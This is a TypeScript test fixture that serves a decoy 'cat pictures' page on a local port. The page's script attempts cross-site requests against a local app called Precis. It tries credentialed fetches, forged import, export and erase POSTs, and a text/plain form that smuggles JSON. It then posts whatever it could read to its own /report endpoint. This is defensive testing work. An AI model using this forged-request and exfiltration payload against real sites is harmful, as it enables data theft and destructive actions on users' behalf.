// An attacker's web page on another port of 127.0.0.1, for forged-requests.spec.ts: in the same
// browser as Precis (so it gets the browser's cookies for 127.0.0.1), it tries to read Precis' session
// and data and to make it import, export and erase, then posts what it could read to its own /report.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface AttackerServer {
  origin: string;
  /** Every request the attacker's server received (what it learned from the browser's headers). */
  requests: { url: string; headers: IncomingHttpHeaders }[];
  /** What the page's script could read, posted to /report; null until it is done. */
  report(): unknown;
  close(): Promise<void>;
}

/** The page's script: every read it manages is noted; a refusal is noted as such. */
function attackScript(precis: string, dicomPath: string, importPath: string): string {
  return `
const P = ${JSON.stringify(precis)};
const notes = [];
const note = (what, value) => notes.push({ what, value: String(value).slice(0, 4000) });
const settle = (start) => new Promise((done) => { start(done); setTimeout(done, 4000); });
async function tryFetch(what, url, init) {
  try { const r = await fetch(url, init); note(what, r.type + ' ' + r.status + ' ' + (await r.text())); }
  catch (e) { note(what, 'refused: ' + e.name); }
}
(async () => {
  note('document.cookie', document.cookie);
  await tryFetch('root (cors)', P + '/', { credentials: 'include' });
  await tryFetch('root (no-cors)', P + '/', { mode: 'no-cors', credentials: 'include' });
  await tryFetch('library.status (cors)', P + '/api/library.status', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' });
  await tryFetch('library.status (no-cors)', P + '/api/library.status', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{}' });
  for (const channel of ['import.start', 'export.case', 'case.erase', 'cases.erase', 'demo.load']) {
    await tryFetch('forged ' + channel, P + '/api/' + channel, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ paths: [${JSON.stringify(importPath)}] }) });
  }
  await settle((done) => {
    const events = new EventSource(P + '/events', { withCredentials: true });
    events.onmessage = (e) => note('event', e.data);
    events.onerror = () => { note('events', 'error, readyState ' + events.readyState); events.close(); done(); };
  });
  await settle((done) => {
    const img = new Image();
    img.onload = () => { note('img', 'loaded ' + img.naturalWidth); done(); };
    img.onerror = () => { note('img', 'error'); done(); };
    img.src = P + ${JSON.stringify(dicomPath)};
  });
  await settle((done) => {
    const script = document.createElement('script');
    script.onload = () => { note('script', 'loaded'); done(); };
    script.onerror = () => { note('script', 'error'); done(); };
    script.src = P + ${JSON.stringify(dicomPath)};
    document.body.append(script);
  });
  await settle((done) => {
    const frame = document.createElement('iframe');
    frame.name = 'sink';
    frame.onload = () => { try { note('form target', frame.contentDocument.body.innerText); } catch (e) { note('form target', 'unreadable'); } done(); };
    document.body.append(frame);
    const form = document.createElement('form');
    form.method = 'POST';
    form.enctype = 'text/plain';
    form.target = 'sink';
    form.action = P + '/api/import.start';
    const input = document.createElement('input');
    input.name = '{"paths":[' + JSON.stringify(${JSON.stringify(importPath)}) + '],"x":"';
    input.value = '"}';
    form.append(input);
    document.body.append(form);
    form.submit();
  });
  await fetch('/report', { method: 'POST', body: JSON.stringify(notes) });
})();`;
}

export async function startAttacker(precisOrigin: string, dicomPath: string, importPath: string): Promise<AttackerServer> {
  const requests: AttackerServer['requests'] = [];
  let report: unknown = null;
  const server: Server = createServer((request, response) => {
    requests.push({ url: request.url ?? '', headers: request.headers });
    if (request.url === '/report') {
      let body = '';
      request.on('data', (d: Buffer) => (body += d.toString()));
      request.on('end', () => {
        report = JSON.parse(body);
        response.end('thanks');
      });
      return;
    }
    if (request.url === '/attack.js') {
      response.writeHead(200, { 'content-type': 'text/javascript' }).end(attackScript(precisOrigin, dicomPath, importPath));
      return;
    }
    response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>cat pictures</title><body><script src="/attack.js"></script></body>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    report: () => report,
    close: () => new Promise<void>((resolve) => {
      server.closeAllConnections();
      server.close(() => resolve());
    }),
  };
}
